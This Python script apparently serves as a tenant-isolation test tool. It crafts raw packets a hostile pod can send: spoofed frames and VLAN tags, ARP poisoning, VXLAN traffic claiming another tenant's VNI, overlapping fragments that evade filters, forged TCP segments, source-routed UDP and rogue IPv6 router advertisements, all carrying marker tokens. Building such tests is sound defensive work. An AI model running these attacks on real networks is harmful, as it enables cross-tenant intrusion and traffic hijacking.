#!/usr/bin/env python3
"""Crafts the packets a hostile tenant can send from its own pod (root in its netns), one attack per command.

  craft.py frame DST_MAC SRC_MAC SRC_IP DST_IP DPORT TOKEN [VLAN]
      an Ethernet frame with IPv4/UDP written by hand: any MAC, any source address, an optional 802.1Q tag
  craft.py arp-reply DST_MAC SHA SPA THA TPA
      an ARP reply claiming that SPA is at SHA (poisoning)
  craft.py vxlan TARGET_IP TARGET_PORT VNI INNER_DST_MAC INNER_SRC_IP INNER_DST_IP TOKEN [PAD]
      a VXLAN-encapsulated UDP datagram, claiming another tenant's VNI, sent to a node's tunnel port
      (TARGET_PORT 4789) or to a service that forwards there
  craft.py fragments SRC_IP DST_IP DPORT TOKEN
      a UDP datagram in overlapping IPv4 fragments: two first fragments with different ports, then the rest
  craft.py tcp SRC_IP DST_IP SPORT DPORT FLAGS TOKEN
      one TCP segment with any flags (e.g. SA, A, PA: a forged reply) carrying TOKEN
  craft.py lsrr SRC_IP FIRST_HOP DST_IP DPORT TOKEN
      UDP with a loose source route: to FIRST_HOP, asking it to forward to DST_IP
  craft.py broadcast DST_IP DPORT TOKEN
      UDP from an ordinary socket with SO_BROADCAST (broadcast and multicast addresses)
  craft.py ra SRC_MAC
      an ICMPv6 router advertisement to all nodes (ff02::1), offering a prefix
Every command prints one line: what it sent.
"""
import socket
import struct
import sys

ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
ETH_P_IPV6 = 0x86dd


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ipv4_header(src: str, dst: str, proto: int, payload_len: int, frag: int = 0, options: bytes = b'') -> bytes:
    ihl = 5 + len(options) // 4
    head = struct.pack('!BBHHHBBH4s4s', (4 << 4) | ihl, 0, ihl * 4 + payload_len, 0x4b4f, frag, 64, proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst)) + options
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:]


def udp_segment(sport: int, dport: int, payload: bytes) -> bytes:
    """UDP with a zero checksum (allowed for IPv4): nothing depends on the payload being intact."""
    return struct.pack('!HHHH', sport, dport, 8 + len(payload), 0) + payload


def mac_bytes(mac: str) -> bytes:
    return bytes(int(part, 16) for part in mac.split(':'))


def send_frame(frame: bytes, ifname: str = 'eth0') -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((ifname, 0))
        sock.send(frame)


def send_ip(packet: bytes, dst: str) -> None:
    """A whole IPv4 packet, header included, routed by the pod's own routes."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.sendto(packet, (dst, 0))


def ethernet(dst_mac: str, src_mac: str, ethertype: int, vlan: str | None = None) -> bytes:
    tag = struct.pack('!HH', 0x8100, int(vlan)) if vlan else b''
    return mac_bytes(dst_mac) + mac_bytes(src_mac) + tag + struct.pack('!H', ethertype)


def frame(dst_mac: str, src_mac: str, src_ip: str, dst_ip: str, dport: str, token: str, vlan: str | None = None) -> str:
    udp = udp_segment(40000, int(dport), token.encode())
    send_frame(ethernet(dst_mac, src_mac, ETH_P_IP, vlan) + ipv4_header(src_ip, dst_ip, 17, len(udp)) + udp)
    return f'frame {src_mac} -> {dst_mac} {src_ip} -> {dst_ip}:{dport}' + (f' vlan {vlan}' if vlan else '')


def arp_reply(dst_mac: str, sha: str, spa: str, tha: str, tpa: str) -> str:
    body = struct.pack('!HHBBH', 1, ETH_P_IP, 6, 4, 2) + mac_bytes(sha) + socket.inet_aton(spa) \
        + mac_bytes(tha) + socket.inet_aton(tpa)
    send_frame(ethernet(dst_mac, sha, ETH_P_ARP) + body)
    return f'arp reply to {dst_mac}: {spa} is at {sha}'


def vxlan(target_ip: str, target_port: str, vni: str, inner_dst_mac: str, inner_src_ip: str, inner_dst_ip: str,
          token: str, pad: str = '0') -> str:
    """PAD bytes after the token make the datagram larger than the MTU: it leaves the pod in fragments."""
    udp = udp_segment(40000, 9999, token.encode() + b'.' * int(pad))
    inner = ethernet(inner_dst_mac, '0a:58:0a:ff:ff:01', ETH_P_IP) + ipv4_header(inner_src_ip, inner_dst_ip, 17, len(udp)) + udp
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(struct.pack('!II', 0x08000000, int(vni) << 8) + inner, (target_ip, int(target_port)))
    return f'vxlan to {target_ip}:{target_port} vni {vni} inner {inner_src_ip} -> {inner_dst_ip}, {len(inner)} bytes'


def fragments(src_ip: str, dst_ip: str, dport: str, token: str) -> str:
    """Two first fragments (offset 0) that disagree on the destination port, 9 (discard) and DPORT, then the
    rest: a filter that looked at one first fragment and a receiver that keeps the other would disagree."""
    payload = token.encode().ljust(24, b'.')
    decoy = udp_segment(40000, 9, payload)
    real = udp_segment(40000, int(dport), payload)
    more_fragments = 0x2000
    send_ip(ipv4_header(src_ip, dst_ip, 17, 16, frag=more_fragments) + decoy[:16], dst_ip)
    send_ip(ipv4_header(src_ip, dst_ip, 17, 16, frag=more_fragments) + real[:16], dst_ip)
    send_ip(ipv4_header(src_ip, dst_ip, 17, len(real) - 16, frag=16 // 8) + real[16:], dst_ip)
    return f'overlapping fragments {src_ip} -> {dst_ip}:{dport} (decoy port 9)'


def tcp(src_ip: str, dst_ip: str, sport: str, dport: str, flags: str, token: str) -> str:
    bits = {'F': 0x01, 'S': 0x02, 'R': 0x04, 'P': 0x08, 'A': 0x10}
    value = sum(bits[f] for f in flags)
    payload = token.encode()
    header = struct.pack('!HHIIBBHHH', int(sport), int(dport), 1000, 2000, 5 << 4, value, 65535, 0, 0)
    pseudo = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip) + struct.pack('!BBH', 0, 6, len(header) + len(payload))
    header = header[:16] + struct.pack('!H', checksum(pseudo + header + payload)) + header[18:]
    send_ip(ipv4_header(src_ip, dst_ip, 6, len(header) + len(payload)) + header + payload, dst_ip)
    return f'tcp {flags} {src_ip}:{sport} -> {dst_ip}:{dport}'


def lsrr(src_ip: str, first_hop: str, dst_ip: str, dport: str, token: str) -> str:
    # Option 131 (LSRR): type, length, pointer, then the remaining route; a NOP pads it to 4-byte words.
    option = struct.pack('!BBB', 131, 7, 4) + socket.inet_aton(dst_ip) + b'\x01'
    udp = udp_segment(40000, int(dport), token.encode())
    send_ip(ipv4_header(src_ip, first_hop, 17, len(udp), options=option) + udp, first_hop)
    return f'loose source route {src_ip} -> {first_hop} -> {dst_ip}:{dport}'


def broadcast(dst_ip: str, dport: str, token: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 4)
        sock.sendto(token.encode(), (dst_ip, int(dport)))
    return f'udp to {dst_ip}:{dport}'


def ra(src_mac: str) -> str:
    src = socket.inet_pton(socket.AF_INET6, 'fe80::' + src_mac.replace(':', '')[-4:])
    dst = socket.inet_pton(socket.AF_INET6, 'ff02::1')
    prefix = struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 86400, 14400, 0) + socket.inet_pton(socket.AF_INET6, '2001:db8:bad::')
    body = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + prefix
    pseudo = src + dst + struct.pack('!I3xB', len(body), 58)
    body = body[:2] + struct.pack('!H', checksum(pseudo + body)) + body[4:]
    header = struct.pack('!IHBB', 0x60000000, len(body), 58, 255) + src + dst
    send_frame(ethernet('33:33:00:00:00:01', src_mac, ETH_P_IPV6) + header + body)
    return f'router advertisement from {src_mac}'


COMMANDS = {'frame': frame, 'arp-reply': arp_reply, 'vxlan': vxlan, 'fragments': fragments, 'tcp': tcp,
            'lsrr': lsrr, 'broadcast': broadcast, 'ra': ra}

if __name__ == '__main__':
    print(COMMANDS[sys.argv[1]](*sys.argv[2:]), flush=True)
